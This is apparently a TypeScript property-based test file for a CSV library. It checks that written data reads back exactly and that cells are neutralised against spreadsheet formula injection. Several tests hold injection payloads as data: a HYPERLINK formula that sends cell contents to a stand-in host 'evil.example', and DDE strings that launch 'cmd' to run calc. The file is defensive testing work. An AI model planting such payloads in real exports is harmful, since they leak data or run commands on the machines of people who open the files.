import { describe, expect, it } from "@effect/vitest"
import { Csv, Exports } from "@tenet/core"
import { Either, FastCheck as fc } from "effect"

/** Text a cell may hold, biased towards what a spreadsheet would run and what CSV must quote. */
const cellText = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "\"", ",", "\n", "\r\n"), fc.string({ maxLength: 8 }))
    .map(([head, tail]) => head + tail)
)

/** A cell as a spreadsheet sees it: the field's text, unquoted, before anything reads it. */
const shownCells = (line: string): Array<string> => {
  const cells: Array<string> = []
  let i = 0
  while (i <= line.length) {
    if (line[i] === "\"") {
      let text = ""
      i++
      while (i < line.length) {
        if (line[i] === "\"" && line[i + 1] === "\"") {
          text += "\""
          i += 2
        } else if (line[i] === "\"") {
          i++
          break
        } else text += line[i++]
      }
      cells.push(text)
      i++
    } else {
      const end = line.indexOf(",", i)
      cells.push(line.slice(i, end < 0 ? line.length : end))
      i = end < 0 ? line.length + 1 : end + 1
    }
  }
  return cells
}

describe("CSV", () => {
  it.prop(
    "what is written reads back exactly, whatever the cells hold",
    [fc.array(fc.array(cellText, { minLength: 3, maxLength: 3 }), { maxLength: 6 })],
    ([rows]) => {
      const text = Csv.write(["a", "b", "c"], rows)
      expect(Csv.read(text)).toEqual(Either.right([["a", "b", "c"], ...rows]))
    }
  )

  it.prop(
    "no cell begins with what a spreadsheet runs (=, +, -, @, tab, carriage return)",
    [fc.array(cellText.filter((t) => !/[\r\n]/.test(t)), { minLength: 1, maxLength: 6 })],
    ([cells]) => {
      const [, line] = Csv.write(cells.map((_, i) => `c${i}`), [cells]).split("\r\n")
      for (const shown of shownCells(line!)) expect(shown).not.toMatch(/^[=+\-@\t\r]/)
    }
  )

  it("OWASP's examples are written as text", () => {
    const text = Csv.write(["name", "description"], [[
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
      "@SUM(1+1)*cmd|' /C calc'!A0"
    ]])
    expect(text.split("\r\n")[1]).toBe(
      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\""
    )
  })

  it("an unterminated quote is refused with its line", () => {
    expect(Csv.read("a,b\r\n\"x,y\r\n")).toEqual(Either.left("line 2: a quoted field is never closed"))
  })

  it("a VPC's rules read back from their CSV as the declaration's fields", () => {
    const rule = {
      id: "5a6b7c8d-9e0f-4a1b-8c2d-3e4f5a6b7c8d",
      name: "=cmd|' /C calc'!A0",
      description: "-1 + 2",
      direction: "ingress",
      action: "allow",
      priority: 100,
      protocol: "tcp",
      ports: "443",
      remote_type: "cidr",
      remote_cidr: "0.0.0.0/0",
      remote_vpc_id: null,
      remote_address_set_id: null,
      target_type: "pods",
      target_subnet_id: null,
      target_pod_ids: ["6a59", "7b60"],
      enabled: false,
      status: "active"
    }
    const text = Exports.rulesCsv({ rules: [rule] } as never)
    const { remote_address_set_id: _s, remote_vpc_id: _v, status: _st, target_subnet_id: _t, ...declared } = rule
    expect(Exports.rulesFromCsv(text)).toEqual(Either.right([declared]))
    expect(Exports.rulesFromCsv("id,nom\r\n")).toEqual(Either.left("unknown column \"nom\""))
    expect(Exports.rulesFromCsv("id,name\r\nx\r\n")).toEqual(Either.left("row 2 has 1 cells; the header has 2"))
  })
})
